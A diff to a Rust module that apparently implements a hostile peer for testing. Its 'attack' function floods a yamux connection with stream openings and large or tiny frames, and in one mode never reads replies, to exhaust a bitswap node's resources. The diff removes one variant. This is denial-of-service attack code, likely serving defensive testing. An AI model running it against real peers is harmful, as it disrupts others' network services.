@@ -22,8 +22,6 @@ pub enum Trick {
     Tiny,
     /// Full windows on one stream after the other, while it reads nothing: no reset goes out.
     Deaf,
-    /// As many full windows as are let stand, for as long as the connection lasts.
-    Within,
 }
 
 const SYN: u8 = 1;
@@ -31,8 +29,6 @@ const SYN: u8 = 1;
 const WINDOW: usize = 256 * 1024;
 const HELLO: &[u8] = b"\x13/multistream/1.0.0\n\x15/ipfs/bitswap/1.2.0\n\x80\x80\x80\x01";
 const STREAMS: u32 = 90;
-/// Those that fit into what may be unread.
-const WITHIN: u32 = 13;
 
 /// The connection below yamux, in the form of a multiplexer.
 struct Raw<C>(C);
@@ -120,14 +116,13 @@ pub async fn start(trick: Trick) -> (String, JoinHandle<()>) {
 
 async fn attack(line: impl AsyncRead + AsyncWrite + Unpin + Send + 'static, trick: Trick) -> io::Result<()> {
     let (mut from, mut to) = line.split();
-    if trick != Trick::Deaf {
+    if trick == Trick::Tiny {
         tokio::spawn(async move {
             let mut part = vec![0; 4 * 1024];
             while matches!(from.read(&mut part).await, Ok(1..)) {}
         });
     }
-    let streams = if trick == Trick::Within { WITHIN } else { STREAMS };
-    for stream in 1..=streams {
+    for stream in 1..=STREAMS {
         to.write_all(&frame(stream * 2, SYN, HELLO)).await?;
         match trick {
             Trick::Tiny => {
@@ -136,9 +131,7 @@ async fn attack(line: impl AsyncRead + AsyncWrite + Unpin + Send + 'static, tric
                     to.write_all(&tiny).await?;
                 }
             }
-            Trick::Deaf | Trick::Within => {
-                to.write_all(&frame(stream * 2, 0, &vec![b'x'; WINDOW - 1_024])).await?
-            }
+            Trick::Deaf => to.write_all(&frame(stream * 2, 0, &vec![b'x'; WINDOW - 1_024])).await?,
         }
         to.flush().await?;
     }
